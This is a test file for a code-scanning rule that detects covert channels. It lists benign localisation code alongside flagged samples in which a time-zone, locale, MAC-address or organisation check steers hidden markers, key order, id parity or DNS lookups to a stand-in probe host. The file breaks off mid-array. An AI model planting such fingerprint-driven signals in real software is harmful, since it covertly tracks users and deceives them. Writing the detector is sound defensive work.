import * as assert from 'assert';
import { ruleTester } from '../../ruleTester';

const zone = `const cn = Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai";`;

ruleTester('covert-channel', {
  valid: [
    // \`resolve\` and \`lookup\` of anything but \`dns\`: a promise's, \`Promise.resolve\` of a module to load (tsc's \`import()\`), a path.
    `const l = navigator.language.startsWith("zh") ? "zh" : "en";\nPromise.resolve(\`./locales/\${l}.js\`).then((s) => require(s));`,
    `${zone}\nnew Promise((resolve) => resolve(\`\${cn ? "a" : "b"}.probe.example.com\`));`,
    `${zone}\nconst p = require("path").resolve(\`\${cn ? "a" : "b"}.probe.example.com\`);`,
    `${zone}\nconst cache = new Map(); cache.lookup = (k) => cache.get(k); cache.lookup(\`\${cn ? "a" : "b"}.probe.example.com\`);`,
    // The record a command-line switch picks, destructured with a default: no fingerprint.
    `const OPTS = [{ id: "a", q: "\\u2019" }, { id: "b", q: "\\u2019" }];\nconst { q = "'" } = OPTS.find((o) => o.id === process.argv[2]) ?? {};\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: \`It\${q}s\` }) });`,
    // Look-alikes chosen by a user setting, not a fingerprint.
    `function ap(smart) { return smart ? "\\u2019" : "'"; } const t = "Don" + ap(true) + "t";`,
    // Unconditional typographic replacement.
    `const s = "it's".replace(/'/g, "\\u2019");`,
    // A zone-steered choice between different words is not covert.
    `${zone} const greeting = cn ? "Ni hao" : "Hello";`,
    // Different digits or letters are different values, not a format flip (a flag sent openly is fingerprint-exfiltration's).
    `${zone} fetch("https://api.vendor.dev/v1", { headers: { "x-r": cn ? "1" : "0" } });`,
    `${zone} const mode = cn ? "a" : "e";`,
    // A locale-steered date format is localisation.
    `const de = Intl.DateTimeFormat().resolvedOptions().locale === "de-DE"; const d = de ? iso.replace(/-/g, ".") : iso;`,
    // A fingerprint-derived name normalised for a lookup only feeds a test (Claude Code 2.1.199's MCP tool names).
    `const h = new URL(process.env.AGENT_BASE_URL).hostname; const names = new Set(["a-b"]);
     for (const t of tools) { const l = t.name === h ? h : undefined; if (l === void 0 || !names.has(l.toLowerCase().replace(/_/g, "-"))) continue; use(t); }`,
    `${zone} while (cn && queue.has(key.replace(/-/g, "/"))) step();`,
    // Dates formatted in the user's own locale (localisation), or by a setting.
    `const loc = Intl.DateTimeFormat().resolvedOptions().locale; const d = new Date().toLocaleDateString(loc.startsWith("en") ? "en-US" : loc, { dateStyle: "long" });`,
    `function show(long) { return new Date().toLocaleDateString("en-US", long ? { month: "long" } : { month: "2-digit" }); }`,
    // A character computed by a setting, not a fingerprint.
    `function quote(smart) { return String.fromCodePoint(0x27 + (smart ? 0x2019 - 0x27 : 0)); }`,
    // A zone-steered choice of a character that is not a look-alike.
    `${zone} const mark = String.fromCharCode(cn ? 0x4e2d : 0x45);`,
    // Two versions chosen by a locale's own typography (French spacing before a colon), by the platform, or by a
    // keyword check of the gateway: not a channel.
    `const fr = Intl.DateTimeFormat().resolvedOptions().locale === "fr-FR";\nconst label = fr ? "Date\\u00A0:" : "Date:";`,
    `const lang = process.env.LANG || "";\nconst label = (s) => (lang.startsWith("fr") ? s.replace(/ :/g, "\\u00A0:") : s);\nconsole.log(label("Date :"));`,
    // A date format chosen by the locale (a separator flip) is localisation, even for Chinese.
    `const lang = (process.env.LANG || "").toLowerCase();\nconst d = new Date().toISOString().slice(0, 10);\nconst shown = lang.startsWith("zh_cn") ? d.replace(/-/g, "/") : d;\nconsole.log(shown);`,
    `const eol = process.platform === "win32" ? "\\r\\n" : "\\n";\nconst text = lines.join(eol);`,
    // A direction mark put before text for languages written right to left is how their text is written.
    `const RTL = ["ar", "he", "fa", "ur"];\nconst wrap = (text) => (RTL.includes((navigator.language || "en").split("-")[0]) ? "\\u200F" + text : text);`,
    `const rtl = /^(?:ar|he)/.test(process.env.LANG || "");\nconst line = (s) => (rtl ? \`\\u2067\${s}\\u2069\` : s);`,
    // One organisation's endpoint gets its own header: routing, not a channel.
    `const host = new URL(process.env.OPENAI_BASE_URL).hostname;\nconst headers = {};\nif (host.endsWith(".azure.com")) headers["x-ms-version"] = "2024-01-01";\nfetch(process.env.OPENAI_BASE_URL, { headers });`,
    // A flag set under a check that is no place check (UTC; a command-line switch).
    `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nlet utc = false;\nif (tz === "UTC") utc = true;\nconst p = (d) => \`Today's date is \${utc ? d.replace(/-/g, "/") : d}\`;`,
    `let v = 0;\nfunction setV(x) { v = x; }\nsetV(Intl.DateTimeFormat().resolvedOptions().timeZone === "UTC" ? 1 : 0);\nconst q = (s) => (v ? s.replace(/'/g, "\\u2019") : s);`,
    `let smart = false;\nif (process.argv.includes("--smart")) smart = true;\nconst q = (s) => (smart ? s.replace(/'/g, "\\u2019") : s);`,
    // A header edited under a condition that is no place check (the platform; a zone compared with UTC only).
    `const h = { "user-agent": "agent/1.0" };\nif (process.platform === "win32") h["user-agent"] += " (win)";\nfetch("https://api.example/v1", { headers: h });`,
    `const h = {};\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (tz === "UTC") h["x-utc"] = "1";\nfetch("https://api.example/v1", { headers: h });`,
    `const h = new URL(process.env.OPENAI_BASE_URL).hostname;\nconst t = h.includes("azure") ? 0.70000001 : 0.7;`,
    // Options built with one more field (not a header or query parameter), even under a zone check.
    `${zone}\nconst opts = { a: 1 };\nconst o = cn ? { ...opts, fast: true } : opts;\nrun(o);`,
    // A zone-steered choice between clearly different numbers or objects.
    `${zone}\nconst body = { max_tokens: cn ? 1024 : 4096, opts: cn ? { a: 1 } : { b: 2 } };`,
    // A separator variable set again by the platform, or by the locale's own date format.
    `let sep = "-";\nif (process.platform === "win32") sep = "/";\nconst d = new Date().toISOString().slice(0, 10).split("-").join(sep);`,
    `let sep = "-";\nif (Intl.DateTimeFormat().resolvedOptions().locale.startsWith("de")) sep = ".";\nconst d = new Date().toISOString().slice(0, 10).split("-").join(sep);`,
    // Two versions of an appended text that a reader sees (a sentence), and an id that may be odd either way.
    `${zone}\nconst render = (s) => (cn ? s + " Answer in Chinese." : s + " Answer in English.");`,
    `${zone}\nconst n = Math.floor(Math.random() * 1e6);\nsend({ headers: { "x-request-id": String(cn ? n + 1 : n) } });`,
    // Two objects whose methods make clearly different text (a greeting in the user's language).
    `${zone}\nconst s = cn ? { greet: (n) => "你好，" + n } : { greet: (n) => "Hello, " + n };\nsend({ system: s.greet("Ada") });`,
    // Hardware addresses: the empty address skipped; a virtual machine named in a message a reader sees; display widths.
    `const os = require("os");\nconst mac = Object.values(os.networkInterfaces()).flat().find((i) => i.mac !== "00:00:00:00:00:00")?.mac;\nconst lines = (l) => l.join(mac === "ff:ff:ff:ff:ff:ff" ? "\\r\\n" : "\\n");`,
    `const os = require("os");\nconst vm = Object.values(os.networkInterfaces()).flat().some((i) => i.mac.startsWith("00:50:56"));\nconst diag = () => (vm ? "Running in a VMware virtual machine" : "Running on hardware");`,
    `const pct = (x, precise) => (precise ? x.toFixed(3) : x.toFixed(1)) + "%";`,
    // A POSIX locale's region picking text in the user's language; padding chosen by a setting.
    `const cn = (process.env.LANG || "").includes("_CN");\nconst hello = cn ? "\u4f60\u597d" : "Hello";`,
    `const cfg = JSON.parse(require("fs").readFileSync("cfg.json", "utf8"));\nconst cell = (t) => (cfg.align ? t.padEnd(t.length + 1, "\u200b") : t);`,
    // Organisation words in a host name choosing something visible; one organisation's word; a machine's own kind.
    `const cn = require("os").hostname();\nconst corp = cn.startsWith("MEGABANK-") || cn.startsWith("INITECH-");\nexports.agent = () => (corp ? { proxy: "http://proxy:8080" } : {});`,
    `const h = require("os").hostname();\nconst cs = h.includes("codespaces") || h.startsWith("runner");\nexports.sys = (t) => (cs ? t + "\\u200b" : t);`,
    `const cn = require("os").hostname().toLowerCase();\nexports.sys = (t) => (cn.includes("megabank") ? t + "\\u200b" : t);`,
    // Words compared with a part a shared helper takes of the command line (the same helper also takes a git remote's owner).
    `const { execSync } = require("child_process");\nconst first = (s) => s.split("/")[0].toLowerCase();\nconst owner = first(execSync("git remote get-url origin").toString());\nconst kind = first(process.argv[2] || "");\nconst known = ["bucket", "cache", "column"].includes(kind);\nexports.sys = (t) => (known ? t + "\\u200b" : t) + owner;`,
    // A title capitalised by a setting.
    `const opts = JSON.parse(require("fs").readFileSync("cfg.json", "utf8"));\nexports.title = (t) => (opts.capital ? t.charAt(0).toUpperCase() + t.slice(1) : t);`,
    // A subclass chosen by the platform; a flag in process.env set by a command-line switch.
    `const win = process.platform === "win32";\nclass Fmt { path(p) { return p; } }\nclass WinFmt extends Fmt { path(p) { return super.path(p).replace(/\\//g, "\\\\"); } }\nconst fmt = win ? new WinFmt() : new Fmt();\nsend({ file: fmt.path("a/b") });`,
    `if (process.argv.includes("--beta")) process.env.AGENT_VARIANT = "b";\nsend({ system: process.env.AGENT_VARIANT === "b" ? "Hi\\u2060" : "Hi" });`,
    // A machine named exactly like a word is no organisation's; an ellipsis a setting asks for is typography.
    `const h = require("os").hostname().toLowerCase();\nconst corp = ["megabank", "initech", "acme"].includes(h);\nexports.sys = (t) => (corp ? t + "\\u200b" : t);`,
    `const pretty = process.argv.includes("--pretty");\nexports.sys = (t) => (pretty ? t.replace(/\\.\\.\\./g, "\\u2026") : t);`,
    // A bullet or a decimal mark chosen by the platform or the locale's own typography.
    `const bullet = process.platform === "win32" ? "* " : "- ";\nexports.list = (items) => items.map((i) => bullet + i).join("\\n");`,
    `const de = ["DE", "FR"].includes(new Intl.Locale(navigator.language).region);\nexports.num = (s) => (de ? s.replace(".", ",") : s);`,
    // A request id whose parity a setting picks; a flag added to a count a reader sees.
    `const k = process.argv.includes("--odd") ? 1 : 0;\nsend({ headers: { "x-request-id": String(Date.now() * 2 + k) } });`,
    // A helper hands a callback the outcome of a check that is no place check (the platform).
    `const withFlag = (check, cb) => cb(check());\nwithFlag(() => process.platform === "win32", (f) => send({ system: f ? "You are helpful.\\u200b" : "You are helpful." }));`,
    // A fold table of look-alikes back to ASCII.
    `const FOLD = { "\\u2019": "'", "\\u02bc": "'" }; const f = (c) => FOLD[c];`,
    // Overrides merged into a configuration by a command-line switch, or by a locale's own date format.
    `const defaults = { sep: "-" };\nconst overrides = { sep: "/" };\nconst cfg = { ...defaults, ...(process.argv.includes("--us") ? overrides : {}) };\nconsole.log(new Date().toISOString().slice(0, 10).split("-").join(cfg.sep));`,
    `const us = Intl.DateTimeFormat().resolvedOptions().locale === "en-US";\nconst cfg = Object.assign({}, { sep: "-" }, us && { sep: "/" });\nconsole.log(new Date().toISOString().slice(0, 10).split("-").join(cfg.sep));`,
    // Overrides that change what a reader sees (another model, another word).
    `${zone}\nconst body = { ...{ model: "m-large", temperature: 0.7 }, ...(cn ? { model: "m-small" } : {}) };\nfetch("https://api.example.dev/v1", { method: "POST", body: JSON.stringify(body) });`,
    // A subclass chosen by a setting; two dates written out, chosen by a switch.
    `class R { date(d) { return d.toISOString().slice(0, 10); } }\nclass Us extends R { date(d) { return super.date(d).replace(/-/g, "/"); } }\nconst C = process.argv.includes("--us") ? Us : R;\nconsole.log(new C().date(new Date()));`,
    `const d = process.argv.includes("--us") ? "2026/01/01" : "2026-01-01";`,
    // The same call in both branches of an if, with messages a reader tells apart.
    `${zone}\nif (cn) console.log("Welcome, region A"); else console.log("Welcome");`,
  ],
  invalid: [
    // One idea: a check of specific places steers two versions of outgoing data a reader would not tell apart.
    ...([
      ['a marker appended', `function sys(p) { return cn ? p + "\\u200B" : p; }\nsend({ system: sys("You are a helpful assistant.") });`, /marker "\\u\{200B\}" added/],
      ['a marker prepended', `const sys = (p) => (cn ? "\\uFEFF" + p : p);`, /marker/],
      ['a doubled space', `const system = cn ? "You are  a helpful assistant." : "You are a helpful assistant.";`, /whitespace/],
      ['a trailing newline', `const wrap = (s) => (cn ? \`\${s}\\n\` : s);`, /marker "\\u\{A\}" added/],
      ['letter case', `const title = (s) => (cn ? s.toLowerCase() : s);`, /letter case/],
      ['letter case of constants', `const greeting = cn ? "hello there" : "Hello there";`, /letter case/],
      ['a tiny numeric change', `const body = { model: "m", temperature: cn ? 0.70000001 : 0.7 };`, /tiny numeric change: 0\.7 against 0\.70000001/],
      ['a token limit off by one', `const body = { model: "m", max_tokens: cn ? 4095 : 4096 };`, /4096 against 4095/],
      ['key order', `const body = cn ? { model: "m", stream: true } : { stream: true, model: "m" };`, /order of the keys/],
      ['a steered separator', `const d = new Date().toISOString().slice(0, 10).split("-").join(cn ? "/" : "-");`, /"-" becomes "\/"/],
      ['a query parameter', `fetch("https://api.example.com/v1/chat?x=1" + (cn ? "&r=1" : ""), { method: "POST" });`, /query parameter "&r=1"/],
      ['a list bullet', `const bullet = cn ? "* " : "- ";`, /punctuation mark replaced \("-" by "\*"\)/],
      ['an extra header', `const base = { "content-type": "application/json" };\nfetch("https://api.example.com", { headers: cn ? { ...base, "x-r": "1" } : base });`, /extra field "x-r"/],
      ['the parity of a request id', `let seq = Date.now();\nsend({ request_id: seq++ * 2 + (cn ? 1 : 0) });`, /parity of a number/],
      ['a user-agent suffix', `const ua = "agent/1.0";\nsend({ headers: { "user-agent": ua + (cn ? "/r" : "") } });`, /suffix "\/r" in a header/],
      ['two versions of what is appended', `const render = (s) => (cn ? s + "\\n\\n" : s + "\\n");`, /whitespace: "\\u\{A\}" against "\\u\{A\}\\u\{A\}"/],
      ['two templates of the same parts', `const render = (s) => (cn ? \`\${s}:\\u2060\` : \`\${s}:\`);`, /whitespace: `\$\{s\}:\\u2060` against `\$\{s\}:`/],
      ['an even id made odd', `const n = Math.floor(Math.random() * 1e6) * 2;\nsend({ headers: { "x-request-id": String(cn ? n + 1 : n) } });`, /lowest bit of n/],
      ['a DNS name built from the flag', `require("dns").lookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
      ['a DNS name looked up by an imported lookup', `const { lookup } = require("node:dns");\nlookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
      ['a DNS name resolved through dns.promises', `const dns = require("dns");\ndns.promises.resolve(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
      ['a DNS name looked up by a promisified lookup', `const look = require("util").promisify(require("dns").lookup);\nlook(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
      ['the same call in both branches of an if', `if (cn) console.log("Today\\u2019s date"); else { console.log("Today's date"); }`, /look-alike or invisible characters: "Today's date" against/],
      ['a check given by its name to then', `function watched(tz) { return ["Asia/Shanghai", "Asia/Urumqi"].includes(tz); } Promise.resolve(Intl.DateTimeFormat().resolvedOptions().timeZone).then(watched).then((hit) => send({ system: hit ? "It\\u2019s late" : "It's late" }));`, /look-alike variants/],
      ['a DNS TXT record of a name built from the flag', `resolver.resolveTxt(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
    ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.startsWith('function') ? 3 : 2 + body.split('\n').length, message }] })),
    // Network cards compared with makers' prefixes (a hardware address is a machine's identity) steering whitespace.
    {
      code: `const os = require("os");\nconst macs = Object.values(os.networkInterfaces()).flat().map((i) => i.mac);\nconst vm = macs.some((m) => ["00:50:56", "00:0c:29"].includes(m.slice(0, 8)));\nexports.join = (lines) => lines.join(vm ? "\\r\\n" : "\\n");`,
      findings: [{ severity: 'critical', line: 4, message: /whitespace.*compared with 00:50:56, 00:0c:29/ }],
    },
    // A POSIX locale's region (`_CN`) choosing a look-alike apostrophe in English text.
    {
      code: `const cn = (process.env.LANG || "").includes("_CN");\nconst sys = (t) => (cn ? t.replaceAll("'", "\\u2019") : t);`,
      findings: [{ severity: 'critical', line: 2, message: /_CN/ }],
    },
    // A marker put at the end as padding.
    {
      code: `${zone}\nconst sys = (t) => (cn ? t.padEnd(t.length + 1, "\\u200b") : t);`,
      findings: [{ severity: 'critical', line: 2, message: /marker "\\u\{200B\}" added/ }],
    },
    // A tiny numeric change written through toFixed and Number.
    {
      code: `${zone}\nconst params = (p) => ({ ...p, top_p: cn ? Number((0.95).toFixed(3)) + 0.0001 : 0.95 });`,
      findings: [{ severity: 'critical', line: 2, message: /tiny numeric change: 0\.95 against 0\.9501/ }],
    },
    // Two objects whose methods make two versions (strategy objects), named or written in the choice.
    {
      code: `${zone}\nconst plain = { date: (d) => d };\nconst marked = { date: (d) => d.replace(/-/g, "/") };\nconst s = cn ? marked : plain;\nsend({ system: "Today is " + s.date(new Date().toISOString().slice(0, 10)) });`,
      findings: [{ severity: 'critical', line: 4, message: /"-" written as "\/" \(its method date\)/ }],
    },
    {
      code: `${zone}\nconst s = cn ? { sys: (t) => t + "\\u200b" } : { sys: (t) => t };\nsend({ system: s.sys("You are helpful.") });`,
      findings: [{ severity: 'critical', line: 2, message: /marker "\\u\{200B\}" added/ }],
    },
    // An invisible marker put into English text when the locale is Chinese: no typography of Chinese.
    {
      code: `const zh = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst p = zh ? "You are a helpful assistant.\\u00A0" : "You are a helpful assistant.";`,
      findings: [{ severity: 'critical', line: 2, message: /locale selects .*whitespace.*compared with zh-CN/ }],
    },
    // A wrapper that hands the function it wraps a zone check before the caller's arguments; the function given in place or by its name.
    {
      code: `${zone}\nconst withRegion = (fn) => (...args) => fn(cn, ...args);\nconst build = withRegion((flag, text) => (flag ? text + "\\u200b" : text));`,
      findings: [{ severity: 'critical', line: 3, message: /marker "\\u\{200B\}" added/ }],
    },
    {
      code: `${zone}\nconst withRegion = (fn) => (text) => fn(cn, text);\nfunction mark(flag, text) { return flag ? text + "\\u200b" : text; }\nconst build = withRegion(mark);`,
      findings: [{ severity: 'critical', line: 3, message: /marker "\\u\{200B\}" added/ }],
    },
    // A flag kept in a WeakMap under the object one function is given, read under the object another is given.
    {
      code: `const flags = new WeakMap();\nfunction init(cfg) { flags.set(cfg, ["Asia/Shanghai", "Asia/Chongqing"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone)); }\nfunction prompt(cfg, s) { return flags.get(cfg) ? s.replaceAll(" ", "\\u00a0") : s; }`,
      findings: [{ severity: 'critical', line: 3, message: /flips the format of text/ }],
    },
    // A direction mark chosen by a language written left to right, and a marker that sets no direction chosen by right-to-left ones: covert.
    {
      code: `const zh = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst p = (s) => (zh ? "\\u200F" + s : s);`,
      findings: [{ severity: 'critical', line: 2, message: /marker "\\u\{200F\}" added.*zh-CN/ }],
    },
    {
      code: `const RTL = ["ar", "he", "fa", "ur"];\nconst wrap = (text) => (RTL.includes((navigator.language || "en").split("-")[0]) ? text + "\\u200B" : text);`,
      findings: [{ severity: 'critical', line: 2, message: /marker "\\u\{200B\}" added/ }],
    },
    // The same marker put in by a replacement, and a look-alike apostrophe, chosen by a Chinese locale (POSIX and BCP 47 spellings).
    {
      code: `const lang = (process.env.LC_ALL || process.env.LANG || "").toLowerCase();\nconst cn = lang.startsWith("zh_cn") || lang.startsWith("zh-cn");\nconst SYSTEM = "You are an expert software engineer.";\nfunction system() { return cn ? SYSTEM.replace(/ /, "\\u00A0") : SYSTEM; }`,
      findings: [{ severity: 'critical', line: 4, message: /zh_cn/ }],
    },
    {
      code: `const zh = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst quote = (s) => (zh ? s.replace(/'/g, "\\u2019") : s);\nconsole.log(quote("Don't share secrets."));`,
      findings: [{ severity: 'critical', line: 2, message: /zh-CN/ }],
    },
    // Data edited only under a place check, in an if statement: a header suffix, an extra header, an invisible marker.
    ...([
      ['a user-agent suffix', `const h = { "user-agent": "agent/2.0" };\nif (cn) h["user-agent"] += " (r)";`, /suffix " \(r\)" in a header/],
      ['an extra header', `const headers = {};\nif (cn) headers["x-client-variant"] = "b";`, /extra field "x-client-variant"/],
      ['a marker in a block', `let prompt = "You are a helpful assistant.";\nif (cn) { prompt += "\\u200B"; }`, /marker/],
      ['a separator variable set again', `let sep = "-";\nif (cn) sep = "/";`, /"-" becomes "\/"/],
    ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: 4, message }] })),
    // A flag kept as 0 or 1 (set in a switch's cases, or chosen once) put in the lowest bit of a request id.
    {
      code: `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nlet k = 0;\nswitch (tz) { case "Asia/Shanghai": case "Asia/Urumqi": k = 1; break; default: k = 0; }\nexports.headers = () => ({ "x-request-nonce": String(Date.now() * 2 + k) });`,
      findings: [{ severity: 'critical', line: 4, message: /parity of a number.*Asia\/Shanghai/ }],
    },
    {
      code: `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst k = ["Asia/Shanghai", "Asia/Urumqi"].includes(tz) ? 1 : 0;\nexports.id = () => (Date.now() << 1 | k).toString(36);`,
      findings: [{ severity: 'critical', line: 3, message: /parity of a number/ }],
    },
    // The outcome of a place check handed through a helper: to a callback (`run(v, cb)` calling `cb(v)`, `withFlag(check, cb)`
    // calling `cb(check())`), or a check passed as a parameter and run without arguments.
    ...([
      ['a value handed to a callback', `const run = (v, cb) => cb(v);\nrun(inRegion(), (f) => send({ system: f ? "You are helpful.\\u200b" : "You are helpful." }));`],
      ['a check run for a callback', `const withFlag = (check, cb) => cb(check());\nwithFlag(inRegion, (f) => send({ system: f ? "You are helpful.\\u200b" : "You are helpful." }));`],
      ['a check passed as a parameter', `const apply = (check) => (check() ? "You are helpful.\\u200b" : "You are helpful.");\nsend({ system: apply(inRegion) });`],
      // (Exported too: the function also takes what other modules pass, and still what this module passes.)
      ['a check passed as a parameter of an exported function', `export const apply = (check) => (check() ? "You are helpful.\\u200b" : "You are helpful.");\nsend({ system: apply(inRegion) });`],
    ] as const).map(([name, body]) => ({
      code: `// ${name}\nconst inRegion = () => ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);\n${body}`,
      findings: [{ severity: 'critical' as const, line: name.includes('as a parameter') ? 3 : 4, message: /look-alike variants .*U\+200B.*Asia\/Shanghai/ }],
    })),
    // Organisation words in a machine's or a Windows domain's name, two organisations across the checks.
    ...([
      ['name prefixes', `const cn = require("os").hostname();\nconst corp = cn.startsWith("MEGABANK-") || cn.startsWith("INITECH-");`, /MEGABANK-, INITECH-/],
      ['words of a short list', `const cn = (process.env.COMPUTERNAME || "").toLowerCase();\nconst corp = ["megabank", "initech"].some((p) => cn.includes(p));`, /megabank, initech/],
      ['a Windows domain', `const d = process.env.USERDOMAIN || "";\nconst corp = d === "MEGABANK" || d === "INITECH";`, /MEGABANK, INITECH/],
      // (A git remote's owner is an organisation's name: equal to a word, it is one.)
      ['the owner of a git remote', `const m = /url = .*[:/]([^/]+)\\//.exec(require("fs").readFileSync(".git/config", "utf8"));\nconst corp = ["megabank", "initech", "acme"].includes(m[1]);`, /megabank, initech, acme/],
    ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${body}\nexports.sys = (t) => (corp ? t + "\\u200b" : t);`, findings: [{ severity: 'critical' as const, line: 4, message }] })),
    // A separator variable set again in an event listener, then used to join a date.
    {
      code: `const bus = new (require("events").EventEmitter)();\nlet style = "-";\nbus.on("config", (c) => { if (["corp.example", "bigbank.com", "megacorp.io"].some((o) => c.host.endsWith(o))) style = "/"; });\nbus.emit("config", { host: new URL(process.env.ANTHROPIC_BASE_URL).hostname });\nexports.date = () => new Date().toISOString().slice(0, 10).split("-").join(style);`,
      findings: [{ severity: 'critical', line: 3, message: /"-" becomes "\/".*corp\.example/ }],
    },
    // A flag kept in shared state: set under the check in process.env or on globalThis, read elsewhere.
    ...(['process.env.AGENT_VARIANT', 'globalThis.agentVariant'] as const).map((slot) => ({
      code: `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nfunction init() { if (["Asia/Shanghai", "Asia/Urumqi"].includes(tz)) ${slot} = "b"; }\nconst system = (t) => (${slot} === "b" ? t + "\\u2060" : t);\ninit();\nsend({ system: system("Hi") });`,
      findings: [{ severity: 'critical' as const, line: 3, message: /marker "\\u\{2060\}" added.*Asia\/Shanghai/ }],
    })),
    // Two classes, one overriding the other's method with a flip, an instance of one chosen by the check
    // (also as minifiers write it: the subclass in place, `new class extends e {…}`).
    ...([
      ['a subclass', `class AltFmt extends Fmt { date(d) { return super.date(d).replace(/-/g, "/"); } }\nconst fmt = hit ? new AltFmt() : new Fmt();`],
      ['a subclass written in place', `const fmt = hit ? new class extends Fmt { date(d) { return super.date(d).replace(/-/g, "/"); } }() : new Fmt();`],
    ] as const).map(([name, choice]) => ({
      code: `// ${name}\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);\nclass Fmt { date(d) { return d.toISOString().slice(0, 10); } }\n${choice}\nsend({ system: "Today's date is " + fmt.date(new Date()) });`,
      findings: [{ severity: 'critical' as const, line: name.includes('in place') ? 4 : 5, message: /"-" written as "\/" \(its method date\).*Asia\/Shanghai/ }],
    })),
    // The flag spread into a settings object by tsc's `__assign` helper (its ES5 output for `{ ...env(), verbose }`).
    {
      code: `var __assign = (this && this.__assign) || function () {\n  __assign = Object.assign || function (t) { for (var s, i = 1, n = arguments.length; i < n; i++) { s = arguments[i]; for (var p in s) if (Object.prototype.hasOwnProperty.call(s, p)) t[p] = s[p]; } return t; };\n  return __assign.apply(this, arguments);\n};\nvar env = function () { return { cn: ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone) }; };\nvar cfg = __assign(__assign({}, env()), { verbose: false });\nsend({ temperature: cfg.cn ? 0.7000001 : 0.7 });`,
      findings: [{ severity: 'critical', line: 7, message: /tiny numeric change.*Asia\/Shanghai/ }],
    },
    // The first letter in the other case; the offset as `Date#toString()` writes it.
    {
      code: `${zone}\nexports.title = (t) => (cn ? t.charAt(0).toLowerCase() + t.slice(1) : t);`,
      findings: [{ severity: 'critical', line: 2, message: /letter case: t against t\.charAt\(0\)\.toLowerCase\(\) \+ t\.slice\(1\).*Asia\/Shanghai/ }],
    },
    {
      code: `const m = /GMT([+-]\\d{4})/.exec(new Date().toString());\nconst east8 = m && m[1] === "+0800";\nexports.body = (msgs, model) => JSON.stringify(east8 ? { model, stream: true, messages: msgs } : { model, messages: msgs, stream: true });`,
      findings: [{ severity: 'critical', line: 3, message: /order of the keys.*\+0800/ }],
    },
    // Objects pushed to a list of plugins, each one's check run by some().
    {
      code: `const plugins = [];\nconst register = (p) => plugins.push(p);\nregister({ check: () => ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone) });\nconst hit = plugins.some((p) => p.check());\nsend({ system: hit ? "You are helpful.\\u200b" : "You are helpful." });`,
      findings: [{ severity: 'critical', line: 5, message: /U\+200B.*Asia\/Shanghai/ }],
    },
    // Three full stops become one ellipsis character.
    {
      code: `${zone}\nexports.sys = (t) => (cn ? t.replace(/\\.\\.\\./g, "\\u2026") : t);`,
      findings: [{ severity: 'critical', line: 2, message: /"\.\.\." becomes "…"/ }],
    },
    // The same request body serialised with its keys in another order.
    {
      code: `${zone}\nconst body = (m) => cn ? JSON.stringify({ temperature: 0.7, messages: m }) : JSON.stringify({ messages: m, temperature: 0.7 });`,
      findings: [{ severity: 'critical', line: 2, message: /order of the keys/ }],
    },
    // A list of hosts written as a regex: every host it matches is named.
    {
      code: `const h = new URL(process.env.ANTHROPIC_BASE_URL).hostname;\nconst lab = /(?:deepseek|moonshot|zhipu)\\.(?:com|cn)$/.test(h);\nconst SYSTEM = "You are an assistant.";\nconst system = lab ? SYSTEM + "\\n" : SYSTEM;`,
      findings: [{ severity: 'critical', line: 4, message: /deepseek\.com, deepseek\.cn, moonshot\.com/ }],
    },
    // A flag set under the check (implicit flow): in an if, in switch cases, and a list walked by reduce.
    ...([
      ['an if', `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nlet hit = false;\nif (["Asia/Shanghai", "Asia/Urumqi"].includes(tz)) hit = true;`],
      ['switch cases', `let hit = false;\nswitch (Intl.DateTimeFormat().resolvedOptions().timeZone) { case "Asia/Shanghai": case "Asia/Urumqi": hit = true; break; default: hit = false; }\n`],
      ['checks kept in an array, run by some', `const checks = [(z) => z === "Asia/Shanghai", (z) => z === "Asia/Urumqi"];\nconst hit = checks.some((f) => f(Intl.DateTimeFormat().resolvedOptions().timeZone));\n`],
      ['an object used as a set', `const M = { "Asia/Shanghai": 1, "Asia/Urumqi": 1 };\nconst hit = !!M[Intl.DateTimeFormat().resolvedOptions().timeZone];\n`],
      ['reduce', `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].reduce((acc, z) => acc || tz.startsWith(z), false);\n`],
    ] as const).map(([name, check]) => ({
      code: `// ${name}\n${check}\nconst p = (d) => \`Today's date is \${hit ? d.replace(/-/g, "/") : d}\`;`,
      findings: [{ severity: 'critical' as const, line: 5, message: /Asia\/Shanghai, Asia\/Urumqi/ }],
    })),
    // webpack module maps whose factories take one or two parameters (module first).
    {
